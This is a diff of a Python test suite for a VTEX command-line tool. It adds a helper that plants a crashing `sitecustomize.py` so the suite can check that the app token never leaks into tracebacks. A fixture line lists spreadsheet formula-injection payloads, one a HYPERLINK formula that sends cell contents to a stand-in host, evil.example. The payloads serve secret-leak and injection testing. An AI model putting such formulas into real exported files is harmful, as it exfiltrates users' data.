@@ -17,6 +17,7 @@ import ast
 import asyncio
 import csv
 import http.server
+import os
 import socket
 import ssl
 import threading
@@ -55,6 +56,20 @@ FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"ok")', "+1+1", "-2+3", "@S
 
 def secret_env(token: str = TOKEN, **extra: str) -> dict[str, str]:
     return {"VTEX_APP_KEY": KEY, "VTEX_APP_TOKEN": token, **extra}
+
+
+def inject_crash(folder: Path) -> Path:
+    """A `sitecustomize` that makes building the HTTP client fail: a crash nobody catches, in
+    the frame where the app token is a local variable."""
+    folder.mkdir(parents=True, exist_ok=True)
+    (folder / "sitecustomize.py").write_text(
+        "import httpx\n\n\n"
+        "def _refuse(self, *args, **kwargs):\n"
+        "    raise RuntimeError('injected: the HTTP client could not be built')\n\n\n"
+        "httpx.AsyncClient.__init__ = _refuse\n",
+        encoding="utf-8",
+    )
+    return folder
 
 
 def every_byte_under(folder: Path) -> Iterator[tuple[str, bytes]]:
@@ -135,12 +150,15 @@ def test_the_app_token_never_appears_in_any_output(tmp_path: Path) -> None:
             ["run"],
             secret_env(VTEX_BASE_URL="http://vtex.example.com:8080"),
         ),
-        # An exception nobody catches (a CA bundle that does not exist) ends the command
-        # with a traceback: it must not show the token either.
+        # An exception nobody catches, raised where the token is a local variable (building
+        # the HTTP client), ends the command with a traceback: it must not show the token.
         "crash": (
             crash,
             ["orders", "pull"],
-            secret_env(VTEX_BASE_URL="https://127.0.0.1:9", SSL_CERT_FILE=str(crash / "none")),
+            secret_env(
+                VTEX_BASE_URL="https://127.0.0.1:9",
+                PYTHONPATH=os.pathsep.join([str(inject_crash(tmp_path / "inject")), str(ROOT)]),
+            ),
         ),
     }
     with LiveSandbox(sandbox) as live:
@@ -162,7 +180,7 @@ def test_the_app_token_never_appears_in_any_output(tmp_path: Path) -> None:
     code, _, err = done["plain http to a remote host"]
     assert code == 2 and "http://vtex.example.com:8080" in err and "refused" in err, err
     code, _, err = done["crash"]
-    assert code == 1 and "FileNotFoundError" in err, err[-3000:]
+    assert code == 1 and "injected: the HTTP client could not be built" in err, err[-3000:]
     # The faults really happened.
     faults = {r.fault for r in sandbox.requests if r.fault}
     assert {"429", "timeout"} <= faults and faults & {"500", "502", "503"}, faults
